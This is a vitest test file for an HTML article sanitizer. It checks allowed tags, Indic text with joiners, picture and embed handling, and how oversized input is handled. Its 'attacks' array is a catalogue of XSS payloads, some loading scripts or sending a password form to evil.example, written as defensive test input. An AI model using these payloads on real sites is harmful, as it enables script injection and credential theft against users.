import { describe, expect, it } from 'vitest';
import { articleSize } from '#domain/media/image-sizes.ts';
import { sizedPictureUrl } from '#domain/media/picture-url.ts';
import { articleTags } from '#domain/post/article.ts';
import {
  hasTooLongCaption,
  hasTooManyTags,
  sanitizeArticle,
} from '#server/modules/posts/content/article-sanitizer.ts';

const own = '01930000-0000-7000-8000-000000000001';
const foreign = '01930000-0000-7000-8000-000000000002';
const stored = { url: `/pictures/${own}.jpg`, width: 800, height: 600 };
const clean = (html: string) => sanitizeArticle(html, (id) => (id === own ? stored : null));

const figure = (caption = '', alt = '') =>
  `<figure data-picture="${own}">` +
  `<img src="/pictures/1080x0_75/${own}.jpg" alt="${alt}" width="800" height="600">` +
  `<figcaption>${caption}</figcaption></figure>`;
const embed = (address: string, provider: string) =>
  `<figure data-embed="${address}" data-provider="${provider}">` +
  `<a href="${address}" rel="noopener noreferrer nofollow">${address}</a></figure>`;

/** What people have put into articles to run something in the reader's browser. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" target="_top">x</a>',
  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button>ok</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><img src=x onerror=alert(1)>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  [
    `<figure data-picture="${own}" onclick="alert(1)">`,
    `<img src="javascript:alert(1)" alt='"><script>alert(1)</script>' onerror=alert(1)>`,
    '<figcaption><script>alert(1)</script><b onclick=alert(1)>x</b>',
    '&lt;img src=x onerror=alert(1)&gt;</figcaption></figure>',
  ].join(''),
  `<figure data-picture='${own}"><script>alert(1)</script>'></figure>`,
  '<figure data-embed="javascript:alert(1)//https://youtube.com"></figure>',
  '<figure data-embed="https://youtu.be/x&quot;><script>alert(1)</script>"></figure>',
  '<figure data-embed="https://youtube.com@evil.example/"></figure>',
  '<figure data-embed="https://youtube.com.evil.example/"></figure>',
  '<figure data-embed="http://youtube.com/watch?v=1"></figure>',
  '<fig<img>ure data-picture="x"><img src=x onerror=alert(1)></fig<img>ure>',
  '<figure><figure><img src=x onerror=alert(1)></figure></figure>',
  '<img <figure> src=x onerror=alert(1)>',
];

const tag = /<(\/?)([a-z0-9]+)((?: [a-z-]+="[^"<>]*")*)>/g;
const attributes: Record<string, string[]> = {
  a: ['href', 'rel'],
  figure: ['data-picture', 'data-embed', 'data-provider'],
  img: ['src', 'alt', 'width', 'height'],
};

/**
 * Everything in the article that its vocabulary does not know; nothing of these tests is written in
 * the sanitiser's terms.
 */
function strange(html: string): string[] {
  const found: string[] = [];
  const rest = html.replace(tag, (whole, _slash, name: string, inside: string) => {
    if (!(articleTags as readonly string[]).includes(name)) found.push(whole);
    for (const [, attribute = '', value = ''] of inside.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      if (!attributes[name]?.includes(attribute)) found.push(`${name} ${attribute}`);
      if (attribute === 'href' && !/^(https?:|mailto:|tel:)/i.test(value)) found.push(value);
      if (attribute === 'src' && value !== sizedPictureUrl(stored.url, articleSize))
        found.push(value);
      if (attribute === 'data-embed' && /evil|^http:/.test(value)) found.push(value);
    }
    return '';
  });
  if (/[<>]/.test(rest)) found.push(rest);
  return found;
}

describe('an article', () => {
  it.each(attacks)('loses scripts in %s', (attack) => {
    const between = `<p>पहले</p>${attack}<p>बाद में</p>`;
    for (const html of [attack, between, `<ul><li>${attack}</li></ul>`]) {
      expect(strange(clean(html).html)).toEqual([]);
    }
  });

  it.each(attacks)('is the same when it is cleaned again: %s', (attack) => {
    const once = clean(attack).html;
    expect(clean(once).html).toBe(once);
  });

  it('keeps its vocabulary to the letter', () => {
    const html = [
      '<h2>खेती</h2><h3>بارش</h3><p>एक <strong>दो</strong> <em>तीन</em> <u>चार</u> <s>पाँच</s><br>छह</p>',
      '<ul><li><p>सात</p></li></ul><ol><li>आठ</li></ol><blockquote><p>नौ &amp; &lt;दस&gt; "ग्यारह"</p></blockquote>',
      '<p><a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow">कड़ी</a></p>',
      figure('चित्र: मीरा', 'खेत'),
      embed('https://www.youtube.com/watch?v=1&amp;t=2', 'youtube'),
      embed('https://x.com/a/status/1', 'x'),
    ].join('');
    expect(clean(html).html).toBe(html);
  });

  it('keeps the joiners that Indic scripts are written with', () => {
    const text = 'क्‍ष र्‍य ক্‌ষ ശ്രീ ‏اردو‎';
    expect(clean(`<p>${text}</p>`).html).toBe(`<p>${text}</p>`);
  });

  it('makes its own tags of those that other editors write', () => {
    expect(clean('<h1>क</h1><div>ख</div><b>ग</b><i>घ</i><span lang=hi>च</span>').html).toBe(
      '<h2>क</h2><p>ख</p><strong>ग</strong><em>घ</em>च',
    );
  });

  it('names its own pictures with captions and descriptions, and drops all others', () => {
    const { html, pictures } = clean(
      `<p>क</p><figure data-picture="${foreign}"><img><figcaption>पराई</figcaption></figure>` +
        `<figure data-picture="${own}"><img alt="खेत &amp; नदी">` +
        '<figcaption> <b>शाम</b>\n का खेत </figcaption></figure>',
    );
    expect(pictures).toEqual([{ id: own, caption: 'शाम का खेत', alt: 'खेत & नदी' }]);
    expect(html).toBe(`<p>क</p>${figure('शाम का खेत', 'खेत &amp; नदी')}`);
  });

  it('ignores pictures in comments and attributes', () => {
    const hidden = `<figure data-picture="${own}"></figure>`;
    expect(clean(`<!-- ${hidden} --><p title='${hidden}'>क</p>`)).toMatchObject({
      html: '<p>क</p>',
      pictures: [],
    });
  });

  it('writes where an embed comes from itself', () => {
    const { html } = clean(
      '<figure data-embed="https://youtu.be/a" data-provider="x"><b>?</b></figure>',
    );
    expect(html).toBe(embed('https://youtu.be/a', 'youtube'));
  });

  it('gives its words apart from captions, blocks apart from each other', () => {
    const { text } = clean(
      `<h2>एक</h2><p>दो<br>तीन &amp; चार</p>${figure('चित्र')}<ul><li>पाँच</li></ul>`,
    );
    expect(text).toBe('एक दो तीन & चार पाँच');
  });

  it('cuts its excerpt between letters', () => {
    const { excerpt } = clean(`<p>${'क्षि'.repeat(161)}</p>`);
    expect(excerpt).toBe(`${'क्षि'.repeat(160)}…`);
  });

  it.each([
    ['a caption', { caption: 'क्षि'.repeat(300), alt: '' }, false],
    ['a caption', { caption: 'क्षि'.repeat(301), alt: '' }, true],
    ['a description', { caption: '', alt: '👨‍👩‍👧'.repeat(301) }, true],
  ])('counts %s in letters', (_, picture, isTooLong) => {
    expect(hasTooLongCaption([{ id: own, ...picture }])).toBe(isTooLong);
  });
});

describe('hostile articles', () => {
  const fill = (piece: string, length = 190_000) => piece.repeat(Math.floor(length / piece.length));
  const inFigure = (inside: string) => `<figure data-picture="${own}">${inside}</figure>`;

  it.each([
    ['openings without an end', fill('<').slice(0, 9_999)],
    ['figures without an end', fill('<figure>', 80_000)],
    ['bold in bold', fill('<b>', 30_000)],
    ['ends without a beginning', fill('<b>', 15_000) + fill('</i>', 20_000)],
    ['captions in captions', inFigure(fill('<figcaption>', 110_000))],
    ['half pictures in a figure', inFigure(fill('<img', 38_000))],
    ['half breaks in a caption', inFigure(`<figcaption>${fill('<br', 28_000)}</figcaption>`)],
    ['one tag of attributes', `<a ${fill('a=b ')}>`],
    ['escapes', fill('&amp;')],
    ['blanks', fill(' ')],
  ])('of %s are cleaned before the test times out', (_, html) => {
    expect(hasTooManyTags(html)).toBe(false);
    expect(strange(clean(html).html)).toEqual([]);
  });

  it('with too many tags are refused before parsing', () => {
    expect(hasTooManyTags(fill('<b>'))).toBe(true);
  });
});
